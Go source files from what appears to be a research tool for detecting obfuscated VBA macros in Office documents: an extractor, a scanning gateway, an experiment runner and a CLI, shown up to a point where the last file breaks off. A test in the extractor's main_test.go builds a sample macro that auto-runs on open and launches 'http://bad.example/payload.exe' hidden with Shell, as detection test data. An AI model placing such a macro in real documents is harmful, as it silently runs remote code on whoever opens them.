	if err != nil {
		return err
	}
	res, err := extract.File(data)
	if err != nil {
		return err
	}
	rep := fileReport{File: path, Format: res.Format.String(), Project: res.Project}
	for _, m := range res.Macros {
		source := m.Source
		mr := macroReport{Module: m.Module, Bytes: len(m.Source), Doc: m.Doc}
		if useDeob {
			dres := deob.Deobfuscate(source)
			source = dres.Source
			mr.Folds = dres.Folds
		}
		if dump {
			mr.Source = source
		}
		if doAnalyze {
			a := analysis.Analyze(m.Source)
			mr.Folds = a.Folds
			for _, f := range a.Findings {
				mr.Findings = append(mr.Findings, findingReport{
					Kind: f.Kind.String(), Value: f.Value, Hidden: f.FromDeobfuscation,
				})
			}
		}
		rep.Macros = append(rep.Macros, mr)
	}
	if doAnalyze {
		for _, s := range res.StorageStrings {
			for _, f := range analysis.ScanIndicators(s) {
				rep.Storage = append(rep.Storage, findingReport{Kind: f.Kind.String(), Value: f.Value})
			}
		}
	}
	if asJSON {
		enc := json.NewEncoder(os.Stdout)
		enc.SetIndent("", "  ")
		return enc.Encode(rep)
	}
	fmt.Printf("%s: format=%s project=%q modules=%d\n", path, rep.Format, rep.Project, len(rep.Macros))
	for _, m := range rep.Macros {
		kind := "module"
		if m.Doc {
			kind = "document"
		}
		fmt.Printf("  %-24s %8d bytes  (%s)\n", m.Module, m.Bytes, kind)
		for _, f := range m.Findings {
			marker := " "
			if f.Hidden {
				marker = "*" // only visible after deobfuscation
			}
			fmt.Printf("    %s %-14s %s\n", marker, f.Kind, f.Value)
		}
		if dump {
			fmt.Println("  " + "----------------------------------------")
			fmt.Println(m.Source)
		}
	}
	for _, f := range rep.Storage {
		fmt.Printf("    D %-14s %s\n", f.Kind, f.Value)
	}
	return nil
}
