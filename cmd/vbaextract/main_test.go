package main

import (
	"os"
	"path/filepath"
	"testing"

	"repro/internal/cfb"
	"repro/internal/ovba"
)

func writeTestDoc(t *testing.T) string {
	t.Helper()
	p := &ovba.Project{Name: "P", Modules: []ovba.Module{{
		Name: "Module1",
		Source: `Sub AutoOpen()
    u = "http://bad.example/payload.exe"
    Shell u, vbHide
End Sub
`,
	}}}
	b := cfb.NewBuilder()
	if err := p.WriteTo(b, "Macros"); err != nil {
		t.Fatal(err)
	}
	raw, err := b.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "sample.doc")
	if err := os.WriteFile(path, raw, 0o644); err != nil {
		t.Fatal(err)
	}
	return path
}

func TestRunPlain(t *testing.T) {
	path := writeTestDoc(t)
	if err := run(path, false, false, false, false); err != nil {
		t.Fatal(err)
	}
}

func TestRunAllFlags(t *testing.T) {
	path := writeTestDoc(t)
	for _, cfg := range []struct{ dump, deob, analyze, json bool }{
		{dump: true},
		{deob: true, dump: true},
		{analyze: true},
		{analyze: true, json: true},
	} {
		if err := run(path, cfg.dump, cfg.deob, cfg.analyze, cfg.json); err != nil {
			t.Fatalf("%+v: %v", cfg, err)
		}
	}
}

func TestRunErrors(t *testing.T) {
	if err := run(filepath.Join(t.TempDir(), "missing.doc"), false, false, false, false); err == nil {
		t.Error("missing file accepted")
	}
	junk := filepath.Join(t.TempDir(), "junk.doc")
	if err := os.WriteFile(junk, []byte("not a doc"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := run(junk, false, false, false, false); err == nil {
		t.Error("junk file accepted")
	}
}
