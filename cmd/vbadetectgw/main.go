// Command vbadetectgw is the fleet gateway: an HTTP coordinator that
// fronts N vbadetectd backends behind a consistent-hash ring with a
// shared verdict cache, hedged retries and staged model rollout.
//
//	vbadetectgw -addr :8090 -backends 10.0.0.1:8080,10.0.0.2:8080
//
// Endpoints:
//
//	POST /v1/scan           classify one document: shared verdict tier →
//	                        consistent-hash route → hedged retry/failover
//	GET  /v1/model          fleet model identity (same shape as a backend's)
//	POST /v1/admin/rollout  staged fleet model reload with skew detection
//	GET  /healthz           per-backend state, fleet target, shared-cache stats
//	GET  /readyz            200 when at least one backend is routable
//	GET  /metrics           gateway counters as JSON; ?format=prometheus merges
//	                        every backend's families under a backend="..." label
//
// Routing is content-addressed: the document SHA-256 picks the backend,
// so each node's local caches stay hot for its shard, and repeat
// documents anywhere in the fleet are answered from the gateway's shared
// verdict cache without touching a backend. Each flag also reads a
// VBADETECTGW_* environment variable as its default (flags win; 0 means
// the built-in default), mirroring vbadetectd.
package main

import (
	"context"
	"flag"
	"fmt"
	"log/slog"
	"net/http"
	"os"
	"os/signal"
	"strconv"
	"strings"
	"syscall"
	"time"

	"repro/internal/fleet"
)

func envInt64(name string, def int64) int64 {
	if v := os.Getenv(name); v != "" {
		if n, err := strconv.ParseInt(v, 10, 64); err == nil {
			return n
		}
	}
	return def
}

func envInt(name string, def int) int {
	return int(envInt64(name, int64(def)))
}

func envFloat(name string, def float64) float64 {
	if v := os.Getenv(name); v != "" {
		if f, err := strconv.ParseFloat(v, 64); err == nil {
			return f
		}
	}
	return def
}

func envString(name, def string) string {
	if v := os.Getenv(name); v != "" {
		return v
	}
	return def
}

func envDuration(name string, def time.Duration) time.Duration {
	if v := os.Getenv(name); v != "" {
		if d, err := time.ParseDuration(v); err == nil {
			return d
		}
	}
	return def
}

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "vbadetectgw:", err)
		os.Exit(1)
	}
}

func run(args []string) error {
	fs := flag.NewFlagSet("vbadetectgw", flag.ExitOnError)
	addr := fs.String("addr",
		envString("VBADETECTGW_ADDR", ":8090"),
		"listen address")
	backends := fs.String("backends",
		envString("VBADETECTGW_BACKENDS", ""),
		"comma-separated vbadetectd backends (host:port or URL); required")
	vnodes := fs.Int("vnodes",
		envInt("VBADETECTGW_VNODES", 0),
		"virtual nodes per backend on the consistent-hash ring (0 = default 128)")
	loadBound := fs.Float64("load-bound",
		envFloat("VBADETECTGW_LOAD_BOUND", 0),
		"bounded-load factor c: skip a backend above ceil(c×mean) in-flight (0 = default 1.25, negative = disable)")
	hedgeAfter := fs.Duration("hedge-after",
		envDuration("VBADETECTGW_HEDGE_AFTER", 0),
		"fixed hedge budget before trying the next ring node (0 = adaptive p95, negative = disable hedging)")
	maxAttempts := fs.Int("max-attempts",
		envInt("VBADETECTGW_MAX_ATTEMPTS", 0),
		"max distinct backends tried per scan, counting hedges and failover (0 = default 3)")
	healthInterval := fs.Duration("health-interval",
		envDuration("VBADETECTGW_HEALTH_INTERVAL", 0),
		"backend health/identity probe period (0 = default 2s)")
	probeTimeout := fs.Duration("probe-timeout",
		envDuration("VBADETECTGW_PROBE_TIMEOUT", 0),
		"per-probe timeout (0 = default 2s)")
	scanTimeout := fs.Duration("scan-timeout",
		envDuration("VBADETECTGW_SCAN_TIMEOUT", 0),
		"end-to-end gateway scan deadline covering all hedged attempts (0 = default 60s)")
	rolloutTimeout := fs.Duration("rollout-timeout",
		envDuration("VBADETECTGW_ROLLOUT_TIMEOUT", 0),
		"per-backend reload deadline during a staged rollout (0 = default 120s)")
	maxBody := fs.Int64("max-body",
		envInt64("VBADETECTGW_MAX_BODY", 0),
		"max request body bytes (0 = default 32MiB)")
	cacheEntries := fs.Int("cache-entries",
		envInt("VBADETECTGW_CACHE_ENTRIES", 0),
		"shared verdict cache entry capacity (0 = default 65536, negative = disable the shared tier)")
	cacheBytes := fs.Int64("cache-bytes",
		envInt64("VBADETECTGW_CACHE_BYTES", 0),
		"shared verdict cache byte budget (0 = default 512MiB, negative = bound by entries alone)")
	if err := fs.Parse(args); err != nil {
		return err
	}
	var pool []string
	for _, b := range strings.Split(*backends, ",") {
		if b = strings.TrimSpace(b); b != "" {
			pool = append(pool, b)
		}
	}
	if len(pool) == 0 {
		return fmt.Errorf("no backends: set -backends or VBADETECTGW_BACKENDS")
	}

	logger := slog.New(slog.NewJSONHandler(os.Stderr, nil))
	gw, err := fleet.New(fleet.Config{
		Backends:        pool,
		VNodes:          *vnodes,
		LoadBoundFactor: *loadBound,
		HedgeAfter:      *hedgeAfter,
		MaxAttempts:     *maxAttempts,
		HealthInterval:  *healthInterval,
		ProbeTimeout:    *probeTimeout,
		ScanTimeout:     *scanTimeout,
		RolloutTimeout:  *rolloutTimeout,
		MaxBodyBytes:    *maxBody,
		CacheEntries:    *cacheEntries,
		CacheBytes:      *cacheBytes,
		Logger:          logger,
	})
	if err != nil {
		return err
	}
	gw.Start()
	defer gw.Close()

	httpSrv := &http.Server{
		Addr:              *addr,
		Handler:           gw.Handler(),
		ReadHeaderTimeout: 10 * time.Second,
	}

	ctx, stop := signal.NotifyContext(context.Background(), syscall.SIGTERM, syscall.SIGINT)
	defer stop()

	errCh := make(chan error, 1)
	go func() {
		logger.Info("gateway listening", "addr", *addr, "backends", pool)
		errCh <- httpSrv.ListenAndServe()
	}()

	select {
	case err := <-errCh:
		return err
	case <-ctx.Done():
	}

	logger.Info("gateway shutting down")
	shutCtx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	if err := httpSrv.Shutdown(shutCtx); err != nil {
		return fmt.Errorf("shutdown: %w", err)
	}
	return nil
}
