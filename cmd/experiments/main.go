// Command experiments regenerates every table and figure of the paper's
// evaluation section on the synthetic corpus (see DESIGN.md §4 for the
// experiment index and EXPERIMENTS.md for recorded results).
//
// Usage:
//
//	experiments -all                 # everything at the given scale
//	experiments -table 2 -table 3    # dataset + extraction summaries
//	experiments -table 5 -figure 6 -figure 7
//	experiments -figure 5
//	experiments -ablation            # feature-group ablations
//	experiments -ensemble -ensemble-gate   # per-channel ensemble ablation
//	experiments -scale 0.2 -folds 5  # faster runs
package main

import (
	"encoding/csv"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"time"

	"repro/internal/core"
	"repro/internal/corpus"
	"repro/internal/experiments"
)

type intList []int

func (l *intList) String() string { return fmt.Sprint([]int(*l)) }
func (l *intList) Set(s string) error {
	v, err := strconv.Atoi(s)
	if err != nil {
		return err
	}
	*l = append(*l, v)
	return nil
}

func main() {
	var tables, figures intList
	flag.Var(&tables, "table", "table number to regenerate (2, 3 or 5; repeatable)")
	flag.Var(&figures, "figure", "figure number to regenerate (5, 6 or 7; repeatable)")
	all := flag.Bool("all", false, "run every experiment")
	ablation := flag.Bool("ablation", false, "run the feature-group ablation study")
	ensemble := flag.Bool("ensemble", false, "run the per-channel ensemble ablation (singles, leave-one-out, full stack)")
	ensembleJSON := flag.String("ensemble-json", "", "write the ensemble ablation result as JSON to this file")
	ensembleMD := flag.String("ensemble-md", "", "write the ensemble ablation as a markdown table to this file")
	ensembleGate := flag.Bool("ensemble-gate", false, "exit non-zero if the full stack's F1 falls below the best single channel")
	ensembleTrees := flag.Int("ensemble-trees", 0, "trees per forest in the ensemble ablation (0 = default 100)")
	importance := flag.Bool("importance", false, "report Random Forest Gini importances of V1-V15")
	deobRecovery := flag.Bool("deob", false, "measure hidden-URL recovery by static deobfuscation")
	active := flag.Bool("active", false, "run the active-learning label-efficiency extension")
	scale := flag.Float64("scale", 1, "corpus scale factor (1 = the paper's 4,212 macros)")
	folds := flag.Int("folds", 10, "cross-validation folds")
	seed := flag.Int64("seed", 1, "corpus seed")
	workers := flag.Int("workers", 0, "featurization concurrency (0 = GOMAXPROCS); results are seed-deterministic for any value")
	csvDir := flag.String("csv", "", "also write plot-ready CSV series to this directory")
	flag.Parse()

	if *all {
		tables = intList{2, 3, 5}
		figures = intList{5, 6, 7}
		*importance = true
		*deobRecovery = true
	}
	if len(tables) == 0 && len(figures) == 0 && !*ablation && !*ensemble && !*importance && !*deobRecovery && !*active {
		flag.Usage()
		os.Exit(2)
	}
	cfg := extraConfig{
		ablation:      *ablation,
		ensemble:      *ensemble,
		ensembleJSON:  *ensembleJSON,
		ensembleMD:    *ensembleMD,
		ensembleGate:  *ensembleGate,
		ensembleTrees: *ensembleTrees,
		importance:    *importance,
		deob:          *deobRecovery,
		active:        *active,
		csvDir:        *csvDir,
		workers:       *workers,
	}
	if err := run(tables, figures, cfg, *scale, *folds, *seed); err != nil {
		fmt.Fprintln(os.Stderr, "experiments:", err)
		os.Exit(1)
	}
}

type extraConfig struct {
	ablation, importance, deob, active bool
	ensemble, ensembleGate             bool
	ensembleJSON, ensembleMD           string
	ensembleTrees                      int
	csvDir                             string
	workers                            int
}

func run(tables, figures []int, extra extraConfig, scale float64, folds int, seed int64) error {
	spec := scaledSpec(scale, seed)
	t0 := time.Now()
	fmt.Printf("# corpus: %d benign + %d malicious macros (seed %d, scale %.2f)\n",
		spec.BenignMacros, spec.MaliciousMacros, seed, scale)
	dataset := corpus.GenerateMacros(spec)
	fmt.Printf("# generated in %v\n\n", time.Since(t0).Round(time.Millisecond))

	want := func(list []int, n int) bool {
		for _, v := range list {
			if v == n {
				return true
			}
		}
		return false
	}

	// Tables 2 and 3 need packaged files.
	if want(tables, 2) || want(tables, 3) {
		t0 := time.Now()
		files, err := dataset.BuildFiles()
		if err != nil {
			return err
		}
		fmt.Printf("# packaged %d documents in %v\n\n", len(files), time.Since(t0).Round(time.Millisecond))
		if want(tables, 2) {
			fmt.Println("== Table II: collected MS Office document files ==")
			fmt.Println("(file sizes are scaled by 0.1 vs the paper; the benign/malicious ratio is preserved)")
			fmt.Print(experiments.FormatTable2(experiments.Table2(files)))
			fmt.Println()
		}
		if want(tables, 3) {
			fmt.Println("== Table III: VBA macros extracted from MS Office files ==")
			rows, err := experiments.Table3(dataset, files)
			if err != nil {
				return err
			}
			fmt.Print(experiments.FormatTable3(rows))
			fmt.Println()
		}
	}

	if want(figures, 5) {
		fmt.Println("== Figure 5: code length distribution ==")
		fig := experiments.RunFigure5(dataset)
		if extra.csvDir != "" {
			if err := writeLengthCSV(extra.csvDir, fig); err != nil {
				return err
			}
		}
		printLengthHistogram("(a) non-obfuscated", fig.NonObfuscated)
		printLengthHistogram("(b) obfuscated", fig.Obfuscated)
		centers := []int{1500, 3000, 4500, 6000, 15000}
		clusters := fig.Clusters(centers)
		fmt.Println("obfuscated-length bands (count within ±20% of center):")
		for _, c := range centers {
			fmt.Printf("  %6d: %d macros\n", c, clusters[c])
		}
		fmt.Println()
	}

	needCV := want(tables, 5) || want(figures, 6) || want(figures, 7)
	var results []experiments.ClassifierResult
	if needCV {
		t0 := time.Now()
		var err error
		results, err = experiments.RunClassification(dataset, experiments.ClassificationConfig{
			Folds: folds, Seed: seed, KeepROC: true, Workers: extra.workers,
		})
		if err != nil {
			return err
		}
		fmt.Printf("# %d-fold cross-validation over %d configurations in %v\n\n",
			folds, len(results), time.Since(t0).Round(time.Second))
	}
	if want(tables, 5) {
		fmt.Println("== Table V: evaluation results (accuracy / precision / recall) ==")
		fmt.Print(experiments.FormatTable5(results))
		fmt.Println()
	}
	if want(figures, 6) {
		fmt.Println("== Figure 6: F2 scores per classifier and feature set ==")
		fmt.Print(experiments.FormatFigure6(results))
		if v, j := experiments.BestF2(results, core.FeatureSetV), experiments.BestF2(results, core.FeatureSetJ); v != nil && j != nil {
			fmt.Printf("best V F2 = %.3f (%s), best J F2 = %.3f (%s), improvement = %.1f%%\n",
				v.F2, strings.ToUpper(string(v.Algorithm)),
				j.F2, strings.ToUpper(string(j.Algorithm)),
				100*(v.F2-j.F2)/j.F2)
		}
		fmt.Println()
	}
	if want(figures, 7) {
		fmt.Println("== Figure 7: ROC / AUC of the best configuration per feature set ==")
		fmt.Print(experiments.FormatFigure7(results))
		fmt.Println()
		if extra.csvDir != "" {
			if err := writeROCCSV(extra.csvDir, results); err != nil {
				return err
			}
		}
	}
	if needCV && extra.csvDir != "" {
		if err := writeResultsCSV(extra.csvDir, results); err != nil {
			return err
		}
	}

	if extra.ablation {
		if err := runAblation(dataset, folds, seed); err != nil {
			return err
		}
	}
	if extra.ensemble {
		if err := runEnsemble(dataset, extra, folds, seed); err != nil {
			return err
		}
	}
	if extra.importance {
		fmt.Println("== Extension: Random Forest Gini importance of V1-V15 ==")
		rows, err := experiments.FeatureImportance(dataset, seed)
		if err != nil {
			return err
		}
		fmt.Print(experiments.FormatImportance(rows))
		fmt.Println()
	}
	if extra.deob {
		fmt.Println("== Extension: static deobfuscation (hidden-URL recovery) ==")
		rep := experiments.DeobRecovery(dataset)
		fmt.Printf("obfuscated downloaders examined: %d\n", rep.Obfuscated)
		fmt.Printf("payload URL hidden by obfuscation: %d\n", rep.HiddenURL)
		if rep.HiddenURL > 0 {
			fmt.Printf("recovered by constant folding:      %d (%.1f%%)\n",
				rep.RecoveredURL, 100*float64(rep.RecoveredURL)/float64(rep.HiddenURL))
		}
		fmt.Printf("mean folded expressions per macro:  %.1f\n\n", rep.MeanFolds)
	}
	if extra.active {
		fmt.Println("== Extension: active learning (uncertainty sampling vs random) ==")
		act, rnd, err := experiments.ActiveCurve(dataset, seed)
		if err != nil {
			return err
		}
		fmt.Print(experiments.FormatActiveCurve(act, rnd))
		fmt.Println()
	}
	return nil
}

func scaledSpec(scale float64, seed int64) corpus.Spec {
	spec := corpus.DefaultSpec()
	spec.Seed = seed
	if scale == 1 {
		return spec
	}
	s := func(n int) int {
		v := int(float64(n) * scale)
		if v < 2 {
			v = 2
		}
		return v
	}
	spec.BenignFiles = s(spec.BenignFiles)
	spec.BenignWordFiles = s(spec.BenignWordFiles)
	spec.MaliciousFiles = s(spec.MaliciousFiles)
	spec.MaliciousWordFiles = s(spec.MaliciousWordFiles)
	spec.BenignMacros = s(spec.BenignMacros)
	spec.BenignObfuscated = s(spec.BenignObfuscated)
	spec.MaliciousMacros = s(spec.MaliciousMacros)
	spec.MaliciousObfuscated = s(spec.MaliciousObfuscated)
	return spec
}

// printLengthHistogram draws a coarse textual histogram of code lengths.
func printLengthHistogram(title string, lengths []int) {
	fmt.Printf("%s (%d macros)\n", title, len(lengths))
	if len(lengths) == 0 {
		return
	}
	sorted := append([]int(nil), lengths...)
	sort.Ints(sorted)
	buckets := []int{500, 1000, 2000, 4000, 8000, 16000, 32000, 1 << 30}
	counts := make([]int, len(buckets))
	for _, n := range sorted {
		for i, b := range buckets {
			if n <= b {
				counts[i]++
				break
			}
		}
	}
	maxCount := 1
	for _, c := range counts {
		if c > maxCount {
			maxCount = c
		}
	}
	labels := []string{"<=500", "<=1k", "<=2k", "<=4k", "<=8k", "<=16k", "<=32k", ">32k"}
	for i, c := range counts {
		bar := strings.Repeat("#", c*50/maxCount)
		fmt.Printf("  %-6s %5d %s\n", labels[i], c, bar)
	}
	fmt.Printf("  median=%d p10=%d p90=%d\n", sorted[len(sorted)/2], sorted[len(sorted)/10], sorted[len(sorted)*9/10])
}

// runAblation drops each V feature group (the per-obfuscation-type
// channels of §IV.C) and reports the F2 impact with the RF classifier.
func runAblation(dataset *corpus.Dataset, folds int, seed int64) error {
	fmt.Println("== Ablation: V feature groups (RF, F2) ==")
	groups := []struct {
		name string
		drop []int // zero-based V indices to remove
	}{
		{"full V1-V15", nil},
		{"without V1-V4 (O4 channel)", []int{0, 1, 2, 3}},
		{"without V5-V7 (O2 channel)", []int{4, 5, 6}},
		{"without V8-V11 (O3 channel)", []int{7, 8, 9, 10}},
		{"without V12 (rich functions)", []int{11}},
		{"without V13-V15 (O1 channel)", []int{12, 13, 14}},
	}
	for _, g := range groups {
		res, err := experiments.RunAblation(dataset, g.drop, folds, seed)
		if err != nil {
			return err
		}
		fmt.Printf("  %-32s F2=%.3f acc=%.3f recall=%.3f\n",
			g.name, res.Confusion.F2(), res.Confusion.Accuracy(), res.Confusion.Recall())
	}
	return nil
}

// runEnsemble runs the per-channel ensemble ablation, prints the table,
// writes the optional JSON/markdown artifacts, and enforces the gate.
func runEnsemble(dataset *corpus.Dataset, extra extraConfig, folds int, seed int64) error {
	fmt.Println("== Ensemble: per-channel ablation (singles, leave-one-out, stack) ==")
	t0 := time.Now()
	res, err := experiments.RunEnsembleAblation(dataset, experiments.EnsembleConfig{
		Folds:   folds,
		Seed:    seed,
		Workers: extra.workers,
		Trees:   extra.ensembleTrees,
	})
	if err != nil {
		return err
	}
	fmt.Printf("# %d configurations over %d samples in %v\n",
		len(res.Singles)+len(res.LeaveOneOut)+1, res.Samples, time.Since(t0).Round(time.Millisecond))
	fmt.Print(experiments.FormatEnsemble(res))
	fmt.Println()
	if extra.ensembleJSON != "" {
		blob, err := res.JSON()
		if err != nil {
			return err
		}
		if err := os.WriteFile(extra.ensembleJSON, append(blob, '\n'), 0o644); err != nil {
			return err
		}
	}
	if extra.ensembleMD != "" {
		if err := os.WriteFile(extra.ensembleMD, []byte(experiments.MarkdownEnsemble(res)), 0o644); err != nil {
			return err
		}
	}
	if extra.ensembleGate && !res.StackBeatsBestSingle() {
		return fmt.Errorf("ensemble gate: stack F1 %.3f below best single channel %q (delta %+.3f)",
			res.Stack.F1, res.BestSingle, res.StackDelta)
	}
	return nil
}

// writeResultsCSV emits table5.csv with one row per configuration.
func writeResultsCSV(dir string, results []experiments.ClassifierResult) error {
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return err
	}
	f, err := os.Create(filepath.Join(dir, "table5.csv"))
	if err != nil {
		return err
	}
	defer f.Close()
	w := csv.NewWriter(f)
	defer w.Flush()
	if err := w.Write([]string{"featureSet", "classifier", "accuracy", "precision", "recall", "f2", "auc"}); err != nil {
		return err
	}
	for _, r := range results {
		rec := []string{
			r.FeatureSet.String(), string(r.Algorithm),
			fmt.Sprintf("%.4f", r.Accuracy), fmt.Sprintf("%.4f", r.Precision),
			fmt.Sprintf("%.4f", r.Recall), fmt.Sprintf("%.4f", r.F2),
			fmt.Sprintf("%.4f", r.AUC),
		}
		if err := w.Write(rec); err != nil {
			return err
		}
	}
	return nil
}

// writeLengthCSV emits the Figure 5 series (sample index, code length).
func writeLengthCSV(dir string, fig experiments.Figure5) error {
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return err
	}
	write := func(name string, lengths []int) error {
		f, err := os.Create(filepath.Join(dir, name))
		if err != nil {
			return err
		}
		defer f.Close()
		w := csv.NewWriter(f)
		defer w.Flush()
		if err := w.Write([]string{"sample", "codeLength"}); err != nil {
			return err
		}
		for i, n := range lengths {
			if err := w.Write([]string{strconv.Itoa(i), strconv.Itoa(n)}); err != nil {
				return err
			}
		}
		return nil
	}
	if err := write("figure5_nonobfuscated.csv", fig.NonObfuscated); err != nil {
		return err
	}
	return write("figure5_obfuscated.csv", fig.Obfuscated)
}

// writeROCCSV emits the Figure 7 ROC curves of the best configuration per
// feature set.
func writeROCCSV(dir string, results []experiments.ClassifierResult) error {
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return err
	}
	for _, fs := range []core.FeatureSet{core.FeatureSetV, core.FeatureSetJ} {
		best := experiments.BestF2(results, fs)
		if best == nil || len(best.ROC) == 0 {
			continue
		}
		f, err := os.Create(filepath.Join(dir, fmt.Sprintf("figure7_roc_%s.csv", strings.ToLower(fs.String()))))
		if err != nil {
			return err
		}
		w := csv.NewWriter(f)
		if err := w.Write([]string{"fpr", "tpr"}); err != nil {
			f.Close()
			return err
		}
		for _, pt := range best.ROC {
			if err := w.Write([]string{fmt.Sprintf("%.6f", pt.FPR), fmt.Sprintf("%.6f", pt.TPR)}); err != nil {
				f.Close()
				return err
			}
		}
		w.Flush()
		if err := f.Close(); err != nil {
			return err
		}
	}
	return nil
}
