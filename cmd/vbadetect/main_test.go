package main

import (
	"bytes"
	"strings"
	"testing"
)

// TestUsageBareInvocation asserts a bare invocation prints the subcommand
// listing to stderr and exits 2.
func TestUsageBareInvocation(t *testing.T) {
	var stdout, stderr bytes.Buffer
	if code := run(nil, &stdout, &stderr); code != 2 {
		t.Errorf("exit code = %d, want 2", code)
	}
	for _, want := range []string{"train", "scan", "usage:"} {
		if !strings.Contains(stderr.String(), want) {
			t.Errorf("stderr missing %q:\n%s", want, stderr.String())
		}
	}
}

// TestUsageHelpFlag asserts -h / --help / help print usage to stdout and
// exit 0.
func TestUsageHelpFlag(t *testing.T) {
	for _, arg := range []string{"-h", "--help", "help"} {
		var stdout, stderr bytes.Buffer
		if code := run([]string{arg}, &stdout, &stderr); code != 0 {
			t.Errorf("%s: exit code = %d, want 0", arg, code)
		}
		if !strings.Contains(stdout.String(), "train") || !strings.Contains(stdout.String(), "scan") {
			t.Errorf("%s: stdout does not list subcommands:\n%s", arg, stdout.String())
		}
	}
}

// TestUnknownCommand asserts an unknown subcommand is reported with usage.
func TestUnknownCommand(t *testing.T) {
	var stdout, stderr bytes.Buffer
	if code := run([]string{"frobnicate"}, &stdout, &stderr); code != 2 {
		t.Errorf("exit code = %d, want 2", code)
	}
	if !strings.Contains(stderr.String(), "frobnicate") {
		t.Errorf("stderr does not name the unknown command:\n%s", stderr.String())
	}
}

// TestScanMissingFiles asserts scan with no files fails with exit 1.
func TestScanMissingFiles(t *testing.T) {
	var stdout, stderr bytes.Buffer
	if code := run([]string{"scan", "-model", "does-not-exist.json"}, &stdout, &stderr); code != 1 {
		t.Errorf("exit code = %d, want 1", code)
	}
}
