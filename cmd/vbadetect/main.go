// Command vbadetect trains an obfuscation-detection model on the synthetic
// corpus (or loads a saved model) and classifies Office documents.
//
// Train and save a model:
//
//	vbadetect train -model model.json [-algo mlp] [-features V] [-scale 0.25]
//	vbadetect train -model stack.json -algo stack -features stack
//
// Scan documents:
//
//	vbadetect scan -model model.json file.doc [file2.xlsm ...]
package main

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"io"
	"os"
	"sync"
	"time"

	"repro/internal/core"
	"repro/internal/corpus"
	"repro/internal/scan"
	"repro/internal/telemetry"
)

func main() {
	os.Exit(run(os.Args[1:], os.Stdout, os.Stderr))
}

// run dispatches the subcommand and returns the process exit code. It is
// separated from main so tests can exercise the top-level usage paths.
func run(args []string, stdout, stderr io.Writer) int {
	if len(args) == 0 {
		usage(stderr)
		return 2
	}
	var err error
	switch args[0] {
	case "-h", "--help", "help":
		usage(stdout)
		return 0
	case "train":
		err = train(args[1:])
	case "scan":
		err = scanCmd(args[1:])
	default:
		fmt.Fprintf(stderr, "vbadetect: unknown command %q\n", args[0])
		usage(stderr)
		return 2
	}
	if err != nil {
		fmt.Fprintln(stderr, "vbadetect:", err)
		return 1
	}
	return 0
}

func usage(w io.Writer) {
	fmt.Fprintln(w, `vbadetect detects obfuscated VBA macros in Office documents.

usage:
  vbadetect <command> [flags]

commands:
  train   train a model on the synthetic corpus and save it
  scan    classify Office documents with a saved model
  help    show this message

  vbadetect train -model out.json [-algo svm|rf|mlp|lda|bnb|stack] [-features V|J|entropy|api|stack]
                  [-scale 0.25] [-seed 1] [-workers N] [-compiled]
  vbadetect scan  -model model.json [-model-mmap] [-workers N] [-stats] [-trace-out spans.jsonl]
                  [-trace-chrome trace.json] [-audit-out audit.jsonl] [-audit-sample 0.1]
                  [-cache-entries N] [-cache-bytes N] file...

Run "vbadetect <command> -h" for per-command flags. The HTTP daemon
counterpart is cmd/vbadetectd.`)
}

func train(args []string) error {
	fs := flag.NewFlagSet("train", flag.ExitOnError)
	modelPath := fs.String("model", "model.json", "output model file")
	algo := fs.String("algo", "mlp", "classifier: svm, rf, mlp, lda, bnb, stack")
	featureSet := fs.String("features", "V", "feature set: V, J, entropy, api or stack")
	scale := fs.Float64("scale", 0.25, "training corpus scale (1 = full 4,212 macros)")
	seed := fs.Int64("seed", 1, "seed")
	workers := fs.Int("workers", 0, "training concurrency (0 = GOMAXPROCS); results are seed-deterministic for any value")
	compiled := fs.Bool("compiled", false, "write a compiled model container (JSON + mmap-able forest section; rf only, other algorithms fall back to JSON)")
	if err := fs.Parse(args); err != nil {
		return err
	}
	set, err := core.ParseFeatureSet(*featureSet)
	if err != nil {
		return err
	}
	det, err := core.NewDetector(core.Algorithm(*algo), set, *seed)
	if err != nil {
		return err
	}
	det.SetWorkers(*workers)
	spec := corpus.DefaultSpec()
	spec.Seed = *seed
	shrink := func(n int) int {
		v := int(float64(n) * *scale)
		if v < 2 {
			v = 2
		}
		return v
	}
	spec.BenignMacros = shrink(spec.BenignMacros)
	spec.BenignObfuscated = shrink(spec.BenignObfuscated)
	spec.MaliciousMacros = shrink(spec.MaliciousMacros)
	spec.MaliciousObfuscated = shrink(spec.MaliciousObfuscated)
	fmt.Printf("generating %d training macros...\n", spec.BenignMacros+spec.MaliciousMacros)
	d := corpus.GenerateMacros(spec)
	fmt.Printf("training %s on %s features...\n", *algo, set)
	t0 := time.Now()
	if err := det.Train(d.Sources(), d.Labels()); err != nil {
		return err
	}
	fmt.Printf("trained in %v\n", time.Since(t0).Round(time.Millisecond))
	var blob []byte
	if *compiled {
		blob, err = det.SaveModelCompiled()
	} else {
		blob, err = det.SaveModel()
	}
	if err != nil {
		return err
	}
	if err := os.WriteFile(*modelPath, blob, 0o644); err != nil {
		return err
	}
	fmt.Printf("wrote %s\n", *modelPath)
	return nil
}

// resolveCacheBounds mirrors the daemon's cache configuration: negative
// entries disable caching entirely; zero values apply the defaults (4096
// entries, 256 MiB); negative bytes bound the caches by entries alone.
func resolveCacheBounds(entries int, bytes int64) (int, int64, bool) {
	if entries < 0 {
		return 0, 0, false
	}
	if entries == 0 {
		entries = 4096
	}
	if bytes == 0 {
		bytes = 256 << 20
	}
	if bytes < 0 {
		bytes = 0
	}
	return entries, bytes, true
}

func scanCmd(args []string) error {
	fs := flag.NewFlagSet("scan", flag.ExitOnError)
	modelPath := fs.String("model", "model.json", "model file from `vbadetect train`")
	workers := fs.Int("workers", 0, "scan concurrency (0 = GOMAXPROCS)")
	showStats := fs.Bool("stats", false, "print aggregate throughput and stage timings")
	traceOut := fs.String("trace-out", "", "write per-document span trees as JSONL to this file")
	traceChrome := fs.String("trace-chrome", "", "write the span trees as a Chrome trace_event file (load in chrome://tracing or Perfetto)")
	auditOut := fs.String("audit-out", "", "write verdict audit events as JSONL to this file")
	auditSample := fs.Float64("audit-sample", 1, "audit sampling rate in [0,1], keyed on document hash")
